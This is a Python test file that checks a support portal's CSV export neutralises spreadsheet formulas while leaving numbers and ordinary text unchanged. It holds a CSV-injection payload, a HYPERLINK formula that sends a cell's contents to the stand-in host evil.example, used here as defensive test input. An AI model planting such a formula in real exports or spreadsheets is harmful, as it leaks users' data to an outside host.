"""CSV exports never carry a live spreadsheet formula (DESIGN §13), and numbers stay numbers."""
import csv
import io

import pytest

from portal.csv_export import neutralise
from portal.extensions import db
from portal.tickets.models import TicketForm

from .conftest import SERVICE

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"X")'


def _rows(response):
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def test_a_formula_name_goes_out_as_text(client, world, make_user, login):
    agent = make_user(name=FORMULA, roles={world.brand: ("agent", {"can_assist": True})})
    db.session.add(TicketForm(brand_id=world.brand.id, name="@SUM(1+1)", end_user_visible=True, position=3))
    db.session.commit()
    login(world.brand, agent)
    for service, minutes in ((SERVICE, "12"), ("@SUM(1+1)", "4")):
        response = client.post("/acme/agent/interactions/new", data={
            "email": "user@example.com", "channel": "phone", "service": service, "minutes": minutes,
            "outcome": "resolved"})
        assert response.status_code == 302, response.get_data(as_text=True)[:500]
    client.get("/acme/hc/en/signout")
    login(world.brand, world.agent)
    response = client.get("/acme/agent/dashboards.csv?days=7")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = _rows(response)
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert ["Time spent by agent (minutes)", "'" + FORMULA, "16.0"] in rows
    assert ["Time spent by service (minutes)", "'@SUM(1+1)", "4.0"] in rows
    assert ["Time spent by service (minutes)", SERVICE, "12.0"] in rows  # ordinary text unchanged
    assert ["Interactions by outcome", "Resolved", "2"] in rows


@pytest.mark.parametrize("cell, written", [
    ("=1+1", "'=1+1"), ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"), ("-2", "'-2"), ("@cmd", "'@cmd"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("Ada Lovelace", "Ada Lovelace"), ("Élise 🎉", "Élise 🎉"),
    ("a=b", "a=b"), ("", ""), (None, ""),
    (-3, -3), (2.5, 2.5), (0, 0),  # numbers we compute stay numbers, negative ones too
])
def test_neutralise_quotes_only_text_that_could_run(cell, written):
    assert neutralise(cell) == written
